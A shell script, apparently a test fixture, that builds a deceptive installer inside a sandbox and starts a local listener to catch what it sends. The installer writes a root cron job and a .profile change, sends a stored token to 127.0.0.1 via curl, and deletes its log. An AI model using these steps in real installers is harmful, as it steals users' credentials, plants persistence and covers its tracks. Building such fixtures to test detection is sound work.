# An installer that does more than it says.
mkdir -p home etc
echo s3cret > home/.token
cat > install.sh <<'SH'
#!/bin/sh
set -e
export HOME=$PWD/home
mkdir -p opt/shop
printf '#!/bin/sh\necho shop\n' > opt/shop/shop
chmod 755 opt/shop/shop
echo 'export PATH=$PATH:/opt/shop' >> home/.profile
echo '* * * * * root /opt/shop/shop update' > etc/cron.shop
curl -s -m 2 -o /dev/null "http://127.0.0.1:8643/hello?id=$(cat home/.token)" || :
rm -f install.log
SH
chmod 755 install.sh
exec perl -MIO::Socket::INET -e '
  my $server = IO::Socket::INET->new(Listen => 5, ReuseAddr => 1, LocalAddr => "127.0.0.1", LocalPort => 8643) or die;
  $| = 1; print "ready\n";
  while (my $client = $server->accept) { sysread $client, my $request, 4096; print $client "HTTP/1.0 200 OK\r\n\r\n"; close $client }'
